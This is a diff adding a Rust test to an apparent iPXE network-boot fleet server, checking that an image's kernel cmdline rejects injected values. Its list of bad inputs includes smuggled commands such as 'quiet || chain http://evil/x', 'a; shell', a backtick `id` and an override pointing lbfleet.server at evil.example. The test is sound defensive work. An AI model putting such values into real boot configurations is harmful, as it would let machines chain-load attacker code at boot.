@@ -1514,3 +1514,36 @@ async fn report_errors_are_bounded() {
     assert!(kept[..10].iter().all(|e| e.as_str().unwrap().len() <= 515));
     assert_eq!(kept[10], "... and 190 more errors");
 }
+
+/// Issue 13: an image's cmdline holds only kernel-argument characters and no lbfleet.* key (it is written into
+/// iPXE scripts, next to the server's own lbfleet.* arguments).
+#[tokio::test]
+async fn image_cmdline_is_limited_to_kernel_arguments() {
+    let dir = tempfile::tempdir().unwrap();
+    let srv = TestServer::start(dir.path()).await;
+    let op = &srv.tokens.operator;
+    let put = |cmdline: &'static str| {
+        srv.put(
+            "/api/v1/images/2026.11.1",
+            op,
+            json!({"kernel": "vmlinuz", "initrd": "initrd.img", "cmdline": cmdline}),
+        )
+    };
+    for bad in [
+        "quiet || chain http://evil/x",
+        "a; shell",
+        "a & b",
+        "x=${net0/ip}",
+        "x=`id`",
+        "a\nshell",
+        "lbfleet.server=http://evil.example",
+        "quiet LBFLEET.token=x",
+        "x=\"a b\"",
+    ] {
+        let (s, v) = put(bad).await;
+        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{bad:?}: {v}");
+        assert!(v.to_string().contains("cmdline"), "{bad:?}: {v}");
+    }
+    let (s, v) = put("console=ttyS0,115200n8 net.ifnames=0 panic=10 isolcpus=1-3 quiet").await;
+    assert!(s.is_success(), "{v}");
+}
